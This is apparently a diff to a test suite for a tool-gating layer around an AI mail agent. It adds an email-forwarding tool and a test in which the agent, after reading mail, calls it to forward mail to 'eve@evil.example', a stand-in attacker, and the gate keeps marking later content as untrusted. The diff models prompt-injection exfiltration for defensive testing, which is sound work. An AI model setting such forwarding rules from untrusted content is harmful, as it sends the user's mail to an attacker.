@@ -11,6 +11,7 @@ const parameters: Readonly<Record<string, object>> = {
   list_notes: {},
   send_mail: { to: text, body: text },
   delete_note: { id: text },
+  email_forwarding_rule: { to: text },
 };
 const tools = {
   read_mail: { category: "read_only" },
@@ -176,6 +177,17 @@ describe("nothing is remembered", () => {
     const customer = notesOf({ id: "c-1", name: "Eve", address: "eve@evil.example" });
     await converse(one.gate, one.script, "two", "what has Eve booked?", [customer, { calls: [] }]);
     expect(lastSent(one.gate).includes("<untrusted-")).toBe(false);
+  });
+
+  it("but not of whom a rule goes to, which keeps it", async () => {
+    const forwards = { email_forwarding_rule: { category: "modification", enforce: "observe" } };
+    const one = await world({ tools: { ...tools, ...forwards } });
+    const rule = call("r", "email_forwarding_rule", { to: "eve@evil.example" });
+    const first = await converse(one.gate, one.script, "one", "answer my mail", [READ, { calls: [rule] }]);
+    expect(released(first)).toEqual(["email_forwarding_rule"]);
+    const known = notesOf({ id: "c-1", name: "Eve", address: "eve@evil.example" });
+    await converse(one.gate, one.script, "two", "where does my mail go?", [known, { calls: [] }]);
+    expect(lastSent(one.gate).includes("<untrusted-")).toBe(true);
   });
 
   it("of a call that was refused", async () => {
